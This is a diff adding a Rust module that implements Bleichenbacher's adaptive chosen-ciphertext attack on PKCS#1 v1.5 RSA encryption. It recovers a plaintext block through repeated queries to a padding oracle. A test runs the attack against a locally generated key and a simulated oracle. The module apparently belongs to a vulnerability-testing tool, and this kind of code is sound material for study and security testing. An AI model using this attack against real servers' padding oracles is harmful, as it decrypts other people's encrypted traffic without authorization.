@@ -0,0 +1,204 @@
+// Bleichenbacher's adaptive chosen-cyphertext attack on PKCS#1 v1.5 encryption
+// ("Chosen Ciphertext Attacks Against Protocols Based on the RSA Encryption
+// Standard PKCS #1", CRYPTO '98). Every cypher c * s^e the oracle accepts tells
+// that m * s mod n starts with 00 02, which narrows the range m can be in.
+use crate::Error;
+use num_bigint::BigUint;
+use num_integer::Integer;
+use num_traits::{CheckedSub, One};
+
+/// Recovered encoded block and the number of oracle queries it took.
+#[derive(Debug)]
+pub struct Recovery {
+    /// Whole 00 02 || PS || 00 || M block, as long as the modulus
+    pub block: Vec<u8>,
+    pub queries: u64,
+}
+
+impl Recovery {
+    /// Message after the padding.
+    pub fn message(&self) -> &[u8] {
+        let separator = self.block[2..].iter().position(|&b| b == 0).unwrap_or(0);
+        &self.block[separator + 3..]
+    }
+}
+
+struct Attack<'a, F: FnMut(&BigUint) -> bool> {
+    n: &'a BigUint,
+    e: &'a BigUint,
+    c: &'a BigUint,
+    oracle: F,
+    queries: u64,
+    max_queries: u64,
+}
+
+impl<F: FnMut(&BigUint) -> bool> Attack<'_, F> {
+    // whether c * s^e is PKCS conforming
+    fn conforming(&mut self, s: &BigUint) -> Result<bool, Error> {
+        if self.queries == self.max_queries {
+            return Err(Error::NotVulnerable);
+        }
+        self.queries += 1;
+
+        let cypher = self.c * s.modpow(self.e, self.n) % self.n;
+        Ok((self.oracle)(&cypher))
+    }
+
+    // smallest s >= start the oracle accepts
+    fn search_from(&mut self, start: BigUint) -> Result<BigUint, Error> {
+        let mut s = start;
+        while !self.conforming(&s)? {
+            s += 1u8;
+        }
+
+        Ok(s)
+    }
+}
+
+/// Recovers the PKCS#1 v1.5 block inside `cypher` given an oracle telling
+/// whether a cypher decrypts to a block starting with 00 02. `cypher` itself
+/// must be conforming, as real cyphers are. Gives up after `max_queries`.
+pub fn attack(
+    n: &BigUint,
+    e: &BigUint,
+    cypher: &BigUint,
+    oracle: impl FnMut(&BigUint) -> bool,
+    max_queries: u64,
+) -> Result<Recovery, Error> {
+    let k = n.bits().div_ceil(8) as usize;
+    if k < 11 {
+        return Err(Error::InvalidInput("modulus too small for PKCS#1 v1.5"));
+    }
+
+    let b = BigUint::one() << (8 * (k - 2));
+    let two_b = &b * 2u8;
+    let three_b = &b * 3u8;
+
+    let mut attack = Attack {
+        n,
+        e,
+        c: cypher,
+        oracle,
+        queries: 0,
+        max_queries,
+    };
+
+    // step 1, blinding is skipped as the cypher is already conforming
+    if !attack.conforming(&BigUint::one())? {
+        return Err(Error::InvalidInput("cypher isn't PKCS#1 v1.5 conforming"));
+    }
+    let mut intervals = vec![(two_b.clone(), &three_b - 1u8)];
+
+    // step 2a
+    let mut s = attack.search_from(n.div_ceil(&three_b))?;
+
+    loop {
+        // step 3, narrow the intervals with the last s
+        let mut narrowed: Vec<(BigUint, BigUint)> = Vec::new();
+        for (a, b_max) in &intervals {
+            let low = (a * &s + 1u8).checked_sub(&three_b).unwrap_or_default();
+            let mut r = low.div_ceil(n);
+            let r_max = (b_max * &s - &two_b) / n;
+
+            while r <= r_max {
+                let lower = (&two_b + &r * n).div_ceil(&s).max(a.clone());
+                let upper = ((&three_b - 1u8 + &r * n) / &s).min(b_max.clone());
+
+                if lower <= upper {
+                    narrowed.push((lower, upper));
+                }
+                r += 1u8;
+            }
+        }
+
+        narrowed.sort();
+        narrowed.dedup();
+        if narrowed.is_empty() {
+            return Err(Error::NotVulnerable);
+        }
+        intervals = narrowed;
+
+        // step 4
+        if let [(a, b_max)] = &intervals[..] {
+            if a == b_max {
+                let mut block = a.to_bytes_be();
+                block.splice(0..0, std::iter::repeat_n(0, k - block.len()));
+
+                return Ok(Recovery {
+                    block,
+                    queries: attack.queries,
+                });
+            }
+        }
+
+        s = match &intervals[..] {
+            // step 2c, search s in a range around the only interval
+            [(a, b_max)] => {
+                let mut r = ((b_max * &s - &two_b) * 2u8).div_ceil(n);
+                'found: loop {
+                    let mut candidate = (&two_b + &r * n).div_ceil(b_max);
+                    let last = (&three_b + &r * n) / a;
+
+                    while candidate <= last {
+                        if attack.conforming(&candidate)? {
+                            break 'found candidate;
+                        }
+                        candidate += 1u8;
+                    }
+                    r += 1u8;
+                }
+            }
+            // step 2b
+            _ => attack.search_from(s + 1u8)?,
+        };
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rsa_core::prime::{generate_prime, random_bytes};
+
+    #[test]
+    fn test_recovers_message_from_prefix_oracle() {
+        let e = BigUint::from(65537u32);
+        let coprime = |p: &BigUint| (p - 1u8).gcd(&e).is_one();
+        let p = generate_prime(256, coprime).unwrap();
+        let q = generate_prime(256, coprime).unwrap();
+        let n = &p * &q;
+        let d = e.modinv(&((&p - 1u8) * (&q - 1u8))).unwrap();
+        // CRT keeps the few hundred thousand decryptions quick
+        let (dp, dq) = (&d % (&p - 1u8), &d % (&q - 1u8));
+        let q_inverse = q.modinv(&p).unwrap();
+        let k = 64;
+
+        let message = b"attack at dawn";
+        let mut block = vec![0, 2];
+        block.extend(
+            random_bytes(k - 3 - message.len())
+                .unwrap()
+                .iter()
+                .map(|&b| b | 1),
+        );
+        block.push(0);
+        block.extend_from_slice(message);
+        let cypher = BigUint::from_bytes_be(&block).modpow(&e, &n);
+
+        let b = BigUint::one() << (8 * (k - 2));
+        let oracle = |c: &BigUint| {
+            let (mp, mq) = (c.modpow(&dp, &p), c.modpow(&dq, &q));
+            let m = (&mp + &p - &mq % &p) * &q_inverse % &p * &q + mq;
+            m >= &b * 2u8 && m < &b * 3u8
+        };
+        let recovery = attack(&n, &e, &cypher, oracle, 1_000_000).unwrap();
+
+        assert_eq!(recovery.block, block);
+        assert_eq!(recovery.message(), message);
+        assert!(recovery.queries > 1);
+
+        assert_eq!(
+            attack(&n, &e, &cypher, oracle, 10).unwrap_err(),
+            Error::NotVulnerable
+        );
+    }
+}